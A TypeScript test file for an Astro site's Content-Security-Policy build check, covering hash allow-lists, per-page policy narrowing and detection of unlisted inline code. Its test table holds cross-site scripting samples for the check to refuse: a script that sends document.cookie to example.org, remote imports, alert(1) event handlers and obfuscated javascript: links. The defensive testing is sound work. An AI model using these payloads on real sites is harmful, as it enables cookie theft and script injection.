/**
 * The Content-Security-Policy comes from an allow-list of what the project ships, known
 * before the pages are rendered; the check after the build finds inline code that is not
 * on it, read with an HTML parser (also when split over lines or entity-encoded).
 */
import { join } from 'node:path';
import { decodeHTMLAttribute } from 'entities';
import { describe, expect, it } from 'vitest';
import { projectAllowList } from '../../src/integrations/security-headers.ts';
import {
  directiveSources,
  hash,
  headerPolicy,
  headersFile,
  metaPolicy,
  narrowPolicy,
  unlistedInlineCode,
  withPagePolicy,
  withPagePolicyChecked,
  type InlineHashes,
} from '../../src/lib/build/csp.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const allow = projectAllowList(ROOT);
const meta = metaPolicy(allow);
const THEME = [...allow.origin].find(([, from]) => from.endsWith('ThemeProvider.astro'))?.[0];

/** A page as the build writes it: the policy first in <head>, then whatever `body` holds. */
const page = (body: string, policy = meta) =>
  `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"/><meta http-equiv="Content-Security-Policy" content="${policy.replace(/'/g, '&#39;')}"/></head><body>${body}</body></html>`;

describe('the allow-list', () => {
  it("holds Starlight's own inline scripts, read from its components before any page is rendered", () => {
    const origins = new Set(allow.origin.values());
    for (const component of ['ThemeProvider.astro', 'ThemeSelect.astro', 'SidebarPersister.astro'])
      expect(
        [...origins].some((o) => o.endsWith(component)),
        component,
      ).toBe(true);
    expect(THEME).toBeDefined();
    expect(allow.scripts.has(THEME ?? '')).toBe(true);
  });

  it('puts the same hashes in the header and the meta policy, and frame-ancestors only in the header', () => {
    const header = headerPolicy(allow);
    for (const h of allow.scripts) {
      expect(header).toContain(h);
      expect(meta).toContain(h);
    }
    expect(header).toContain("frame-ancestors 'none'");
    expect(meta).not.toContain('frame-ancestors');
    expect(meta).not.toMatch(/report-uri|report-to|sandbox/);
    expect(`${header} ${meta}`).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
    expect(headersFile(header)).toContain(`Content-Security-Policy: ${header}`);
  });
});

describe('the check of a built page', () => {
  it('passes a page with only listed code', () => {
    expect(
      unlistedInlineCode(page('<p style="--depth: 0;">tekst</p><script type="module" src="/_astro/page.js"></script>'), allow, meta),
    ).toEqual([]);
  });

  it.each([
    ['an inline script', '<script>fetch("https://example.org/?" + document.cookie)</script>', 'inline script'],
    ['an inline module', '<script type="module">import("https://example.org/x.js")</script>', 'inline script'],
    ['a script in an SVG', '<svg><script>alert(1)</script></svg>', 'inline script'],
    ['a script from elsewhere', '<script src="https://example.org/x.js"></script>', 'van buiten de site'],
    ['a protocol-relative script', '<script src="//example.org/x.js"></script>', 'van buiten de site'],
    ['an event handler', '<img src="/x.png" alt="" onerror="alert(1)">', 'onerror'],
    ['an event handler split over two lines, in capitals', '<img src="/x.png" alt="" ONERROR\n="alert(1)">', 'onerror'],
    ['a javascript: link', '<a href="javascript:alert(1)">klik</a>', 'script uitvoert'],
    ['an entity-encoded javascript: link', '<a href="&#106;ava&#x73;cript&colon;alert(1)">klik</a>', 'script uitvoert'],
    ['a javascript: link with a tab in it', '<a href="java\tscript:alert(1)">klik</a>', 'script uitvoert'],
    ['a style block', '<style>body{background:url(https://example.org/x)}</style>', '<style>-blok'],
    ['a style attribute', '<p style="position:fixed;inset:0">nep</p>', 'style-attribuut'],
  ])('refuses %s', (_, body, message) => {
    const problems = unlistedInlineCode(page(body), allow, meta);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain(message);
    // The same when the build narrows and checks the page in one reading.
    const checked = withPagePolicyChecked(page(body), allow, meta);
    expect(checked.html).toBe(withPagePolicy(page(body)));
    expect(checked.problems).toEqual(unlistedInlineCode(checked.html, allow, meta));
    expect(checked.problems).toEqual(problems);
  });

  it('does not run data blocks through the script rules', () => {
    expect(unlistedInlineCode(page('<script type="application/ld+json">{"@type":"Thing"}</script>'), allow, meta)).toEqual([]);
  });

  it('refuses a page without the policy, with another policy, or with a script before it', () => {
    const bare = '<!DOCTYPE html><html><head></head><body></body></html>';
    expect(unlistedInlineCode(bare, allow, meta)).toEqual(['mist het Content-Security-Policy-meta-element']);
    expect(unlistedInlineCode(page('', meta.replace("default-src 'self'", 'default-src *')), allow, meta)).toEqual([
      'heeft een Content-Security-Policy-meta-element met een ander beleid',
    ]);
    const early = page('').replace('<meta http-equiv', '<script src="/_astro/a.js"></script><meta http-equiv');
    expect(unlistedInlineCode(early, allow, meta)).toEqual(['heeft een script of stijl vóór het Content-Security-Policy-meta-element']);
  });

  it('hashes nothing from a page into the policy', () => {
    const injected = 'alert(1)';
    unlistedInlineCode(page(`<script>${injected}</script>`), allow, meta);
    expect(allow.scripts.has(hash(injected))).toBe(false);
    expect(meta).not.toContain(hash(injected));
  });
});

const hashes = (used: Partial<InlineHashes>): InlineHashes => ({
  scripts: used.scripts ?? new Set(),
  styles: used.styles ?? new Set(),
  styleAttributes: used.styleAttributes ?? new Set(),
});

describe("a page's own policy", () => {
  const [first = '', second = ''] = [...allow.scripts].sort();

  it('keeps every hash when the page uses them all, so the full policy stays as it is', () => {
    expect(narrowPolicy(meta, hashes(allow))).toBe(meta);
  });

  it('lists exactly the hashes of the inline code the page holds, and every other source as it was', () => {
    const narrowed = narrowPolicy(meta, hashes({ scripts: new Set([first, second]), styleAttributes: new Set([hash('--depth: 0;')]) }));
    expect(directiveSources(narrowed, 'script-src')).toEqual(["'self'", "'wasm-unsafe-eval'", first, second]);
    expect(directiveSources(narrowed, 'style-src-attr')).toEqual(["'unsafe-hashes'", hash('--depth: 0;')]);
    expect(directiveSources(narrowed, 'style-src')).toEqual(["'self'"]);
    expect(narrowed.replace(/ 'sha256-[^']+'/g, '')).toBe(meta.replace(/ 'sha256-[^']+'/g, ''));
  });

  it("allows no style attribute at all on a page without them: 'none', not an 'unsafe-hashes' with nothing to match", () => {
    const narrowed = narrowPolicy(meta, hashes({}));
    expect(directiveSources(narrowed, 'style-src-attr')).toEqual(["'none'"]);
    expect(directiveSources(narrowed, 'script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(narrowed).not.toContain('sha256-');
    expect(narrowed).not.toContain('unsafe-hashes');
  });

  it('never adds a hash the policy does not have', () => {
    const narrowed = narrowPolicy(meta, hashes({ scripts: new Set([hash('alert(1)')]), styleAttributes: new Set([hash('color: red')]) }));
    expect(narrowed).not.toContain(hash('alert(1)'));
    expect(narrowed).not.toContain(hash('color: red'));
  });

  it('is what the build writes into a page with two inline scripts: their hashes only', () => {
    // A site whose allow-list has three inline scripts and two style attributes.
    const texts = ['window.a = 1;', 'window.b = 2;', 'window.c = 3;'];
    const own = {
      scripts: new Set(texts.map(hash)),
      styles: new Set<string>(),
      styleAttributes: new Set(['--depth: 0;', '--depth: 1;'].map(hash)),
      origin: new Map<string, string>(),
    };
    const full = metaPolicy(own);
    const body = `<p style="--depth: 1;">tekst</p><script>${texts[0] ?? ''}</script><script type="application/ld+json">{}</script><script>${texts[2] ?? ''}</script>`;
    const html = withPagePolicy(page(body, full));
    const policy = decodeHTMLAttribute(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '');
    expect(directiveSources(policy, 'script-src')).toEqual([
      "'self'",
      "'wasm-unsafe-eval'",
      ...[hash(texts[0] ?? ''), hash(texts[2] ?? '')].sort(),
    ]);
    expect(directiveSources(policy, 'style-src-attr')).toEqual(["'unsafe-hashes'", hash('--depth: 1;')]);
    // Only the policy changed, and the check after the build accepts the page.
    const withoutPolicy = (h: string) => h.replace(/content="[^"]*"/, 'content=""');
    expect(withoutPolicy(html)).toBe(withoutPolicy(page(body, full)));
    expect(unlistedInlineCode(html, own, full)).toEqual([]);
  });

  it('leaves a page without exactly one policy meta element as it is', () => {
    const bare = '<!DOCTYPE html><html><head></head><body><p style="--depth: 0;">x</p></body></html>';
    expect(withPagePolicy(bare)).toBe(bare);
    const twice = page('').replace('</head>', `<meta http-equiv="Content-Security-Policy" content="${meta}"></head>`);
    expect(withPagePolicy(twice)).toBe(twice);
  });

  it('is refused by the check when it lacks a hash the page needs, or narrows another policy', () => {
    const body = '<p style="--depth: 0;">tekst</p>';
    const without = page(body, narrowPolicy(meta, hashes({})));
    expect(unlistedInlineCode(without, allow, meta)).toEqual(['heeft een Content-Security-Policy-meta-element met een ander beleid']);
    const other = meta.replace("img-src 'self' data:", "img-src 'self' data: https:");
    const narrowedOther = page(body, narrowPolicy(other, hashes({ styleAttributes: new Set([hash('--depth: 0;')]) })));
    expect(unlistedInlineCode(narrowedOther, allow, meta)).toEqual(['heeft een Content-Security-Policy-meta-element met een ander beleid']);
  });
});

describe('narrowing and checking in one reading', () => {
  it.each([
    ['a page with listed code', '<p style="--depth: 0;">tekst</p><script type="module" src="/_astro/page.js"></script>'],
    ['a page without a policy', ''],
    ['a page with two policies', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
    ['a page with another policy', ''],
    ['a page with a script before its policy', ''],
  ])('finds what the check of the narrowed page finds: %s', (name, body) => {
    let html = page(body);
    if (name.includes('without')) html = html.replace(/<meta http-equiv[^>]*>/, '');
    if (name.includes('another')) html = html.replace('img-src &#39;self&#39;', 'img-src *');
    if (name.includes('before')) html = html.replace('<meta http-equiv', '<script src="/_astro/a.js"></script><meta http-equiv');
    const checked = withPagePolicyChecked(html, allow, meta);
    expect(checked.html).toBe(withPagePolicy(html));
    expect(checked.problems).toEqual(unlistedInlineCode(checked.html, allow, meta));
    if (name.includes('listed')) expect(checked.problems).toEqual([]);
    else expect(checked.problems).toHaveLength(1);
  });
});
